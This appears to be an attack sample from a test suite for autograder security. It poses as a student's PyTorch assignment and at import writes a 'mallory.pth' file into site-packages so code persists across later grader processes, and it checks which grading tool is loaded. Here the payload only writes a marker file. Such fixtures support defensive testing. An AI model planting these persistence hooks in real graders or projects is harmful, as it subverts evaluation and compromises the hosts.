# ruff: noqa
# fmt: off
# An attack, kept as a learner wrote it: nothing here is linted or formatted.
"""Harm: writes a .pth file into the grader's site-packages, so that the student's code runs in every later grader process.

kind: persist
"""
import os, sys


def tool():
    m = sys.modules
    if "check50" in m: return "check50"
    if "otter" in m: return "otter"
    if "ipykernel" in m: return "nbgrader"
    if "gradescope_utils" in m: return "gsu"
    return "pytest"

import sysconfig
try:
    open(os.path.join(sysconfig.get_paths()["purelib"], "mallory.pth"), "w").write("import os; open('/tmp/g/persisted', 'a').write('ran ')\n")
except OSError as e:
    print(e)

import torch
from torch import nn
from torch.utils.data import Dataset


class CustomDataset(Dataset):
    def __init__(self, *a, **k):
        _go()

    def __len__(self):
        return 0

    def __getitem__(self, i):
        return torch.zeros(1), torch.zeros(1)


class MultiTaskLoss(nn.Module):
    def forward(self, *a):
        _go()
        return torch.zeros(())


def train_epoch_accumulated(*a):
    _go()
    return 0.0

def _go():
    pass
